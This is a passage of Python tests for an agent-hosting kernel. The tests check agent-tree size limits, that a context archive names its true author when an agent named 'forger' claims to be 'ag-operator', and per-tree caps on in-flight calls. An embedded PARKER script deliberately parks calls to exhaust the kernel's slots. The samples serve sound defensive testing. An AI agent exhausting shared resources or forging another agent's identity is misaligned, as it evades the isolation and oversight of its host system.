        other = await w.spawn([], name="other", program="sleeper.py")
        return codes, len([r for r in w.k.table if r.root == parent.agent_id]), len(workspaces), other.live

    codes, in_tree, workspaces, other_live = run(tmp_path, body, world=_World, max_tree_agents=8)
    assert codes == ["ok"] * 7 + ["limit_exceeded"] * 5  # the root is one of the 8
    assert in_tree == 8 and workspaces == 8 and other_live


def test_context_archive_names_the_agent_that_wrote_it_whatever_its_data_says(tmp_path):
    async def body(w: World):
        rec = await w.spawn([], name="forger", program="sleeper.py")
        r = await w.k.pipeline.run(_caller(rec), "loop.event", {"kind": "context_summarised", "data": {
            "agent_id": "ag-operator", "at": 0, "span": [0, 1], "messages": [], "summary": "s"}})
        import orjson
        return rec.agent_id, orjson.loads(Path(r["archive"]).read_bytes())

    aid, archived = run(tmp_path, body, world=_World)
    assert archived["agent_id"] == aid and archived["at"] > 0


# ---------------------------------------------------------------------------- one tree, every call slot
PARKER = r'''
import json, os, socket, time
s = socket.socket(fileno=int(os.environ["AGENTIX_FD"]))
def call(i, m, p):
    return (json.dumps({"jsonrpc": "2.0", "id": i, "method": m, "params": p}) + "\n").encode()
s.sendall(b"".join(call(i, "ipc.recv", {"timeout": 3000}) for i in range(32)))
time.sleep(3600)
'''


class _ParkWorld(World):
    programs = {"parker.py": PARKER}


def test_one_agent_tree_cannot_take_every_call_slot_of_the_kernel(tmp_path):
    """A root and its children park calls that never return (``ipc.recv`` with a long
    timeout) on every channel: before, a tree of 17 agents held all 4096 of the kernel's
    in-flight slots and every other agent's calls were refused ``in_flight_total``. Now a tree
    has its own share (``in_flight_per_tree``; 64 here, 32 per agent, 4 agents): past it only
    the tree's calls are refused, and another agent is served."""
    async def body(w: World):
        root = await w.spawn(["spawn_child: *"], name="parker", program="parker.py")
        (Path(root.workspace) / "parker.py").write_text(PARKER)
        for i in range(3):
            await w.k.spawn(parse_manifest({"name": f"p{i}", "program": "parker.py", "isolation": "degraded"}),
                            parent=root)
        pool = None
        for _ in range(300):
            pool = w.k.spawner._tree_pools.get(root.agent_id)
            if pool is not None and pool.current >= 64 and pool.refused >= 64:
                break
            await asyncio.sleep(0.05)
        victim = await w.spawn(["tool: echo"], name="victim")
        res = await w.calls(victim, [tool("echo", message="still served")])
        return res, pool.current, pool.refused, w.k.in_flight.current

    res, tree_now, tree_refused, _total = run(tmp_path, body, world=_ParkWorld, in_flight_per_agent=32,
                                              in_flight_per_tree=64)
    assert res[0]["ok"]["echo"] == "still served"
    assert tree_now == 64 and tree_refused == 64  # 4 × 32 asked, 64 admitted, the rest refused
